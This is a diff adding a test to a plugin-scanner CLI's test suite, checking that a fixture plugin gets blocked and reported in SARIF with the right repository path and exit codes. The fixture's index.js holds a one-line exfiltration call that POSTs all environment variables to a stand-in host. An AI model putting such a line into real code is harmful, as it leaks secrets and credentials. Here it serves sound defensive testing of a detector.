@@ -180,6 +180,46 @@ describe('a refusal', () => {
     expect(plain.out).toMatch(/\nevil@1\.0\.0: block, \d+ findings in 2 files \(\d+ B\)\n$/);
   });
 
+  it('of a malicious plugin leaves a SARIF file that says where it is in the repository', async () => {
+    mkdirSync(join(dir, 'evil'));
+    writeFileSync(join(dir, 'evil/package.json'), '{"name":"evil","version":"1.0.0"}');
+    writeFileSync(
+      join(dir, 'evil/index.js'),
+      `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`,
+    );
+    expect(await cli('scan evil --sarif out.sarif --sarif-root ./plugins/evil/')).toMatchObject({ code: 1 });
+    expect(JSON.parse(readFileSync(join(dir, 'out.sarif'), 'utf8'))).toMatchObject({
+      version: '2.1.0',
+      runs: [
+        {
+          tool: { driver: { name: 'ragnos-vault' } },
+          results: expect.arrayContaining([
+            expect.objectContaining({
+              ruleId: 'EXF-001',
+              locations: [
+                expect.objectContaining({
+                  physicalLocation: expect.objectContaining({
+                    artifactLocation: expect.objectContaining({ uri: 'plugins/evil/index.js' }),
+                  }),
+                }),
+              ],
+            }),
+          ]),
+        },
+      ],
+    });
+    const several = await cli(`scan ${HELLO} evil --format json --output all.json`);
+    expect(several).toMatchObject({ code: 1, out: '' });
+    expect(JSON.parse(readFileSync(join(dir, 'all.json'), 'utf8'))).toMatchObject([
+      { name: '@acme/hello', verdict: 'pass' },
+      { name: 'evil', verdict: 'block' },
+    ]);
+    expect(json(await cli('scan evil --format sarif'))).toMatchObject({ version: '2.1.0' });
+    expect(await cli(`scan evil ${HELLO} --sarif no.sarif --sarif-root a`)).toMatchObject({ code: 2 });
+    expect(await cli('scan evil --sarif no.sarif --sarif-root ../evil')).toMatchObject({ code: 2 });
+    expect(existsSync(join(dir, 'no.sarif'))).toBe(false);
+  });
+
   it('never lets a name rewrite the terminal', async () => {
     const said = await run(['scan', '\u001b[2Jnowhere'], memoryIo(dir));
     const io = memoryIo(dir);
